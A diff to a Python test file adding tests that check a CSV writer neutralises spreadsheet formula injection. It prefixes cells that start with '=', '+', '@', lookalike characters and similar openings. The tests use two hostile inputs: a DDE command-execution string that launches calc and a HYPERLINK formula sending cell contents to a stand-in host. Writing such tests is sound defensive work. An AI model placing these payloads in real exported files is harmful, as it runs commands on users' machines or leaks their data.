@@ -96,6 +96,41 @@ def test_a_spreadsheet_reads_it_and_runs_nothing_of_it(run, what):
     assert not any(cell.startswith(("=", "@", "+")) for row in rows for cell in row.values())
 
 
+BEGINNINGS = [
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t",
+    "\r",
+    "\n",
+    " =",
+    "\u00a0+",
+    "\x00=",
+    "\ufeff=",
+    "＝",
+    "＋",
+    "－",
+    "＠",
+    "|",
+    "%",
+]
+
+
+@pytest.mark.parametrize("beginning", BEGINNINGS, ids=ascii)
+@pytest.mark.parametrize("formula", ["cmd|' /C calc'!A0", 'HYPERLINK("https://a.example?"&A1)'])
+def test_a_cell_that_begins_like_a_formula_is_text(beginning, formula):
+    file = io.StringIO(newline="")
+    write_csv(file, ("a", "n"), [{"a": f"{beginning}{formula}", "n": -1.5}])
+    assert list(csv.reader(io.StringIO(file.getvalue(), newline="")))[1] == [f"'{beginning}{formula}", "-1.5"]
+
+
+def test_every_cell_is_quoted():
+    file = io.StringIO(newline="")
+    write_csv(file, ("a", "b"), [{"a": "plain", "b": 1}])
+    assert file.getvalue() == '"a","b"\n"plain","1"\n'
+
+
 @given(
     st.lists(
         st.dictionaries(st.sampled_from("ab"), st.text() | st.floats(allow_nan=False) | st.none() | st.lists(st.text()))
